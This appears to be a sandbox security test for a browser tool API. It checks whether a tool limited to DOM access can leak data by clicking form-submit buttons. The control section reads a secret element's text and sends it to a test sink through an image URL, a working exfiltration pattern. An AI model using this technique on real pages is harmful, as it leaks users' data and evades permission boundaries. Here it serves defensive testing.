//! guest = "tool"
//! promise = "dom-clicks-inside"
//! capabilities = ["dom:read", "dom:write"]
// Forms that are in the part, by every button that sends them.
await btcp.dom.click("#b1").catch(() => {});
await btcp.dom.click("#b2").catch(() => {});
await btcp.dom.click("#b3").catch(() => {});
await btcp.dom.click("#b4").catch(() => {});
await btcp.dom.click("#b5").catch(() => {});
await btcp.dom.click("#b6").catch(() => {});
return "pressed";
// --- page
const frame = document.createElement("iframe");
frame.name = "sinkframe";
document.body.append(frame);
stage.elements().root.insertAdjacentHTML("beforeend", `<form action="${stage.sink}/form" target=sinkframe><input name=a value=b><button id=b1>x</button><input type=submit id=b2><input type=image id=b3 alt=x><button id=b4 type=submit><i id=b5>x</i></button><label id=b6 for=b1>x</label></form>`);
const said = stage.outcome(await stage.tool());
await stage.wait(400);
return said;
// --- control
const picture = new Image();
picture.src = `${stage.sink}/taken?${document.getElementById("secret").textContent}`;
await stage.until(() => picture.complete);
return "sent";
